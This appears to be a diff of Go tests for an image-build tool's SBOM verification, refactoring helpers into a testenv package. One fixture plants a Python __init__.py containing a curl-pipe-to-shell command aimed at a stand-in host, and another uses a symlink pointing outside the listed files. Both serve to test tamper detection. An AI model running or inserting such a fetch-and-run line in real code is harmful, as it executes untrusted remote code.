@@ -12,6 +12,7 @@ import (
 	"time"
 
 	v1 "github.com/google/go-containerregistry/pkg/v1"
+	"github.com/imagebuild/imagebuild/internal/testenv"
 	"github.com/imagebuild/imagebuild/sbom"
 )
 
@@ -56,14 +57,14 @@ func TestSBOMCheck(t *testing.T) {
 		return dt
 	}
 	files := []file{
-		{path: "/etc/os-release", body: []byte(osRelease)},
-		{path: "/var", dir: true}, {path: "/var/lib", dir: true}, {path: "/var/lib/dpkg", dir: true},
-		{path: "/var/lib/dpkg/status", body: []byte(status("libc6", "zlib1g"))},
+		{Path: "/etc/os-release", Body: []byte(osRelease)},
+		{Path: "/var", Dir: true}, {Path: "/var/lib", Dir: true}, {Path: "/var/lib/dpkg", Dir: true},
+		{Path: "/var/lib/dpkg/status", Body: []byte(status("libc6", "zlib1g"))},
 	}
 	for p, body := range dist {
-		files = append(files, file{path: "/" + p, body: []byte(body), uid: 1000, gid: 1000})
+		files = append(files, file{Path: "/" + p, Body: []byte(body), UID: 1000, GID: 1000})
 	}
-	img := image(t, "appuser", baseLayer(t), appLayer(t), layer(t, files...))
+	img := testenv.Image(t, "appuser", baseLayer(t), appLayer(t), testenv.Layer(t, files...))
 	check := func(doc []byte) Result {
 		t.Helper()
 		r, err := Image(context.Background(), img, Options{SBOM: doc})
@@ -163,17 +164,17 @@ func TestSBOMFileHashes(t *testing.T) {
 
 	var entries []file
 	for p, body := range dist {
-		entries = append(entries, file{path: "/" + p, body: []byte(body), uid: 1000, gid: 1000})
+		entries = append(entries, file{Path: "/" + p, Body: []byte(body), UID: 1000, GID: 1000})
 	}
-	img := image(t, "appuser", baseLayer(t), appLayer(t), layer(t, entries...))
+	img := testenv.Image(t, "appuser", baseLayer(t), appLayer(t), testenv.Layer(t, entries...))
 	// In this image probe/data.txt is a link to a file the SBOM does not list.
-	linked := image(t, "appuser", baseLayer(t), appLayer(t), layer(t, entries...), layer(t,
-		file{path: "/opt/venv/share", dir: true, uid: 1000, gid: 1000},
-		file{path: "/opt/venv/share/data.txt", body: []byte("data\n"), uid: 1000, gid: 1000},
-		file{path: "/" + site + "probe/data.txt", link: "../../../../share/data.txt", uid: 1000, gid: 1000}))
+	linked := testenv.Image(t, "appuser", baseLayer(t), appLayer(t), testenv.Layer(t, entries...), testenv.Layer(t,
+		file{Path: "/opt/venv/share", Dir: true, UID: 1000, GID: 1000},
+		file{Path: "/opt/venv/share/data.txt", Body: []byte("data\n"), UID: 1000, GID: 1000},
+		file{Path: "/" + site + "probe/data.txt", Link: "../../../../share/data.txt", UID: 1000, GID: 1000}))
 	// In this image __init__.py is not what the SBOM was made from.
-	changed := image(t, "appuser", baseLayer(t), appLayer(t), layer(t, entries...), layer(t,
-		file{path: init, body: []byte("import os; os.system('curl evil | sh')\n"), uid: 1000, gid: 1000}))
+	changed := testenv.Image(t, "appuser", baseLayer(t), appLayer(t), testenv.Layer(t, entries...), testenv.Layer(t,
+		file{Path: init, Body: []byte("import os; os.system('curl evil | sh')\n"), UID: 1000, GID: 1000}))
 
 	for _, tc := range []struct {
 		name     string
